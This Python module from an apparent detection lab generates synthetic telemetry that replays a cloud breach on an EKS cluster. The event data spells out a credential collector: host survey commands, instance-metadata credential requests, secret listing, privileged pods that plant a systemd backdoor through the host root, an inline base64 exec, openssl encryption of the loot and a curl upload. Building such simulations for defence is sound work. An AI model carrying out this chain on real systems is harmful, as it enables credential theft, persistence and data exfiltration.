"""What the replayed breaches have in common: an EKS cluster, its everyday life, and the collector that one thief used.

The reports tell of AWS's metadata service, so the cluster is one of EKS. Hosts that the reports name have their names;
their addresses are of the documentation ranges, save where a report names nothing but an address.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace

from eightysix.lab.generate.audit import Request
from eightysix.lab.generate.clock import SECOND
from eightysix.lab.generate.cluster import Cluster, Container, Image, Node, Pod
from eightysix.lab.generate.ids import name_id
from eightysix.lab.generate.programs import METADATA, Endpoint, boot_python, call, read_service_account
from eightysix.lab.generate.scene import Process, Scene
from eightysix.lab.generate.sensor import Stack
from eightysix.lab.generate.settings import Setting

__all__ = [
    "BEFORE",
    "INLINE",
    "PROVIDER",
    "PYTHON",
    "STORE",
    "Estate",
    "ask_instance_role",
    "collect",
    "encrypt",
    "image_holds",
    "inline",
    "list_secrets",
    "make_node_pods",
    "ordinary_role",
    "scratch",
    "survey",
    "upload",
]

PYTHON = "/opt/venv/bin/python"
BEFORE = -86_400.0
"""When the time before a breach begins: a day earlier."""

STORE = Endpoint("203.0.113.85", 443, "ml-models.s3.us-west-2.amazonaws.com")
PROVIDER = Endpoint("203.0.113.86", 443, "api.openai.com")
SECRETS_MANAGER = Endpoint("203.0.113.87", 443, "secretsmanager.us-west-2.amazonaws.com")
PARAMETERS = Endpoint("203.0.113.88", 443, "ssm.us-west-2.amazonaws.com")
_ROLES = "/latest/meta-data/iam/security-credentials/"

INLINE = Stack(("<unknown>",), dynamic=True)
"""Code that came by the command line or by standard input: it belongs to no file and to no distribution."""

_IMAGE_AGE = 14 * 86_400
_BOTO = ("urllib3", "botocore", "boto3")


class Estate(Scene):
    """An EKS cluster with plain audit logs."""

    def __init__(self, setting: Setting) -> None:
        super().__init__(setting, Cluster("eks-ml-prod", "172.20.0.1"))

    def node(self, index: int = 0) -> Node:
        """A node of the cluster's GPU group, named as EC2 names it."""
        if index not in self._nodes:
            place = self.setting.first_node + index
            name = f"ip-10-0-{40 + place // 200}-{17 + place % 200}.us-west-2.compute.internal"
            self._nodes[index] = Node(name, self.cluster)
        return self._nodes[index]

    def pod(  # type: ignore[override]
        self, workload: str, *, namespace: str, kind: str = "Deployment", node: int = 0, name: str = ""
    ) -> Pod:
        """A pod of a workload, with no label of another cloud."""
        made = super().pod(workload, namespace=namespace, kind=kind, node=node, name=name)
        return replace(made, labels=(("app", workload),))


def image_holds(container: Container, **distributions: str) -> Container:
    """Let the image hold distributions since it was built: `name="version"`, `_` for `-`."""
    for name, version in {"boto3": "1.42.4", "botocore": "1.42.4", **distributions}.items():
        container.install(name.replace("_", "-"), version, container.started_ns - _IMAGE_AGE * SECOND)
    return container


def ordinary_role(process: Process, at: float, app: Stack) -> None:
    """What the application does with the node's role: its SDK asks for it, and it reads from its bucket."""
    sdk = Stack(_BOTO + app.frames, thread=app.thread)
    ask_instance_role(process, at, sdk, urllib=False)
    call(process, at + 0.4, STORE, sdk)


def ask_instance_role(process: Process, at: float, by: Stack | None, *, urllib: bool = True) -> None:
    """IMDS version 2: a session, the role's name, its credentials. `urllib` tells that the sensor sees the paths."""
    for step, (path, method) in enumerate(
        (("/latest/api/token", "PUT"), (_ROLES, "GET"), (f"{_ROLES}eks-ml-node", "GET"))
    ):
        call(process, at + step * 0.06, METADATA, by, path=path if urllib else "", method=method)


def scratch(container: Container, what: str) -> str:
    """A folder of Python's `tempfile`."""
    return f"/tmp/tmp{name_id(8, 'scratch', what, container.id)}"


def inline(parent: Process, at: float, by: Stack | None, *, stdin: bool = False) -> Process:
    """The interpreter is started on code from the command line (left out here) or from standard input."""
    code = "-" if stdin else "-c \"import base64; exec(base64.b64decode('...'))\""
    words = ["-"] if stdin else ["-c", "import base64; exec(base64.b64decode('...'))"]
    if by is not None:
        parent.sense_child(at - 0.004, (PYTHON, *words), by)
    child = parent.exec(at, PYTHON, code)
    boot_python(child, at, [PYTHON, *words])
    return child


def survey(process: Process, at: float) -> None:
    """`hostname`, `whoami`, `uname -a`, `ip addr`, `printenv`, from a shell."""
    shell = process.exec(at, "/bin/sh", '-c "hostname; whoami; uname -a; ip addr; printenv"')
    for step, (binary, arguments) in enumerate(
        (
            ("/usr/bin/hostname", ""),
            ("/usr/bin/whoami", ""),
            ("/usr/bin/uname", "-a"),
            ("/usr/sbin/ip", "addr"),
            ("/usr/bin/printenv", ""),
        )
    ):
        child = shell.exec(at + 0.01 + step * 0.006, binary, arguments)
        child.exit(at + 0.014 + step * 0.006)
    shell.exit(at + 0.05)


def collect(process: Process, at: float, by: Stack = INLINE) -> None:
    """The collector: a survey, the node's role and what it opens, the service account. Takes 4 s.

    Files that a container seldom has (`~/.ssh`, `~/.aws`, `~/.kube`) are not there, and what is not there makes no record.
    """
    survey(process, at)
    ask_instance_role(process, at + 1.1, by)
    call(process, at + 1.6, SECRETS_MANAGER, by, path="/", method="POST")
    call(process, at + 2.1, PARAMETERS, by, path="/", method="POST")
    read_service_account(process, at + 3.2, by)


def list_secrets(process: Process, at: float, by: Stack = INLINE, *, code: int = 200) -> None:
    """The secrets of all namespaces, asked for at the API server with the pod's token."""
    request = Request("list", "secrets", code=code, user_agent="Python-urllib/3.11")
    _ask(process, at, request, by)


def make_node_pods(
    scene: Estate, process: Process, at: float, nodes: Sequence[int], by: Stack = INLINE, *, code: int = 201
) -> None:
    """The second stage: a privileged pod on every node, which writes its backdoor through the mounted root."""
    _ask(
        process,
        at,
        Request("list", "nodes", code=200 if code < 400 else code, user_agent="Python-urllib/3.11"),
        by,
    )
    for step, index in enumerate(nodes):
        begins = at + 0.3 + step * 0.2
        name = f"node-setup-{scene.node(index).name}"
        request = Request("create", "pods", "kube-system", name, code=code, user_agent="Python-urllib/3.11")
        _ask(process, begins, request, by)
        if code < 400:
            _node_pod(scene, name, index, begins + 2.4)


def _node_pod(scene: Estate, name: str, index: int, at: float) -> None:
    pod = replace(
        scene.pod(name, namespace="kube-system", kind="Pod", node=index, name=name),
        service_account="default",
        labels=(),
    )
    container = scene.container(
        pod, Image("docker.io/library/alpine:latest"), started=at, name="setup", instrumented=False
    )
    shell = scene.entrypoint(at + 0.1, container, "/bin/sh", "-c ...", cwd="/")
    for step, words in enumerate(("daemon-reload", "enable --now sysmon.service")):
        chroot = shell.exec(at + 0.4 + step * 0.3, "/usr/sbin/chroot", f"/host systemctl {words}")
        chroot.exit(at + 0.5 + step * 0.3)
    shell.exit(at + 1.2)


def _ask(process: Process, at: float, request: Request, by: Stack | None) -> None:
    """A request to the API server at the address that the environment names."""
    pod = process.container.pod
    address = pod.cluster.api_server
    process.connect(at, address, 443, by=by, host=address, path=request.uri)
    process.scene.api(at, pod, request)


def encrypt(process: Process, at: float) -> None:
    """A session key, the data under it, the key under the thief's, and all into one archive."""
    for step, (binary, arguments) in enumerate(
        (
            ("/usr/bin/openssl", "rand -out session.key 32"),
            (
                "/usr/bin/openssl",
                "enc -aes-256-cbc -in collected -out payload.enc -pass file:session.key -pbkdf2",
            ),
            (
                "/usr/bin/openssl",
                "pkeyutl -encrypt -pubin -inkey pub.pem -in session.key -out session.key.enc",
            ),
            ("/usr/bin/tar", "-czf tpcp.tar.gz payload.enc session.key.enc"),
        )
    ):
        child = process.exec(at + step * 0.08, binary, arguments)
        child.exit(at + step * 0.08 + 0.05)


def upload(process: Process, at: float, to: Endpoint, header: str, archive: str, *, scheme: str) -> None:
    """curl sends the archive."""
    host = to.host or f"{to.address}:{to.port}"
    words = f'-s -X POST {scheme}://{host}/ -H "{header}" --data-binary @{archive}'
    curl = process.exec(at, "/usr/bin/curl", words)
    call(curl, at + 0.03, to, None)
    curl.exit(at + 0.6)
